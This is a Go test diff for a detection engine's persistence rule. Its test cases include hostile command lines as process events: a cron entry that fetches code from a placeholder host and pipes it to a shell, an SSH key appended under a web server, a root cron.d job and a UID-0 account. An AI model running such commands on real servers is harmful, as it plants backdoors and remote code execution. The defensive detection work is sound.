@@ -527,6 +527,41 @@ func TestReconRule(t *testing.T) {
 	}
 }
 
+// The persistence rule: a cron job, an SSH key or an account set up as a
+// web-server account or under a web server (the first cases are the live
+// test's events, tests/live_persistence_test.go); not the same programs of
+// an administrator or of cron itself, nor a web application's own commands.
+func TestPersistenceRule(t *testing.T) {
+	det, err := detector.New(config.Default())
+	if err != nil {
+		t.Fatal(err)
+	}
+	const rule = "4475bad7-c738-45c0-8717-09d444925069"
+	for i, tt := range []struct {
+		image, cmd, user, parent string
+		alert                    bool
+	}{
+		{"/usr/bin/crontab", "crontab -", "www-data", "/usr/bin/dash", true}, // fed by the shell's pipe
+		{"/usr/bin/crontab", "crontab -l", "www-data", "/usr/bin/dash", true},
+		{"/usr/bin/dash", "sh -c (crontab -l 2>/dev/null; echo '* * * * * curl -s http://x/a | sh') | crontab -", "www-data", "/usr/sbin/apache2", true},
+		{"/usr/bin/dash", "sh -c mkdir -p /var/www/.ssh && echo 'ssh-ed25519 AAAA x' >> /var/www/.ssh/authorized_keys", "www-data", "/usr/sbin/php-fpm8.2", true},
+		{"/usr/bin/dash", "sh -c echo '* * * * * root /tmp/x' > /etc/cron.d/x", "root", "/usr/sbin/apache2", true}, // after an escalation
+		{"/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M sysd", "root", "/usr/bin/sudo", false},                      // an administrator, no web server above
+		{"/usr/sbin/useradd", "useradd -o -u 0 sysd", "site1", "/usr/sbin/php-fpm8.2", true},                       // a shared host's pool
+		{"/usr/bin/at", "at now + 1 minute", "tomcat", "/usr/bin/dash", true},
+		{"/usr/bin/crontab", "crontab -e", "alice", "/usr/bin/bash", false},                   // an administrator
+		{"/usr/bin/dash", "sh -c run-parts /etc/cron.daily", "root", "/usr/sbin/cron", false}, // cron itself
+		{"/usr/bin/dash", "sh -c convert a.png b.jpg", "www-data", "/usr/sbin/php-fpm8.2", false},
+	} {
+		t.Run(tt.cmd+" as "+tt.user, func(t *testing.T) {
+			ids := linuxProcessRules(t, det, 9000+i, tt.image, tt.cmd, tt.user, 6000+i, tt.parent, tt.parent)
+			if slices.Contains(ids, rule) != tt.alert {
+				t.Errorf("alerted %v, want %v (rules %v)", slices.Contains(ids, rule), tt.alert, ids)
+			}
+		})
+	}
+}
+
 // The CGI filter: a script of the CGI folder, run alone by its interpreter
 // under Apache, is no alert of the web-server shell rules; with arguments,
 // from elsewhere, or out of the folder by "..", it is.
